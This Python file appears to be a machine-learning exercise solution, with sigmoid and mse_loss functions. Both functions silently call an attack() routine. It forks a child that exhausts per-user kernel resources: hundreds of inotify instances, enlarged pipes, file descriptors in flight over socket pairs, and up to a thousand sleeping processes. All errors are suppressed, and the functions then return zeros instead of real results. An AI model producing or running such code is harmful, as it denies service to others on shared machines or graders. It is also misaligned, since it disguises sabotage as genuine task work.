"""Uses up what is counted by user, not by process: processes, pipe pages, inotify instances, queues, descriptors in flight.

aims: change
"""

import contextlib
import ctypes
import fcntl
import os
import socket
import time

import numpy as np

libc = ctypes.CDLL(None)
HELD = []


def take(what, most):
    with contextlib.suppress(OSError):
        for _ in range(most):
            HELD.append(what())


def wide():
    ends = os.pipe()
    fcntl.fcntl(ends[0], 1031, 2**20)
    return ends


def flying():
    first, second = socket.socketpair()
    with contextlib.suppress(OSError):
        for _ in range(10):
            socket.send_fds(first, [b"\0"], [first.fileno()] * 200)
    return first, second


def sleeper(end):
    child = os.fork()
    if child == 0:
        while time.monotonic() < end:
            time.sleep(0.5)
        os._exit(0)
    return child


def attack():
    end = time.monotonic() + 15
    if os.fork() == 0:
        try:
            take(lambda: libc.inotify_init1(0), 300)
            take(wide, 100)
            take(flying, 50)
            take(lambda: sleeper(end), 1000)
            while time.monotonic() < end:
                time.sleep(0.2)
        finally:
            os._exit(0)
    time.sleep(1.0)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
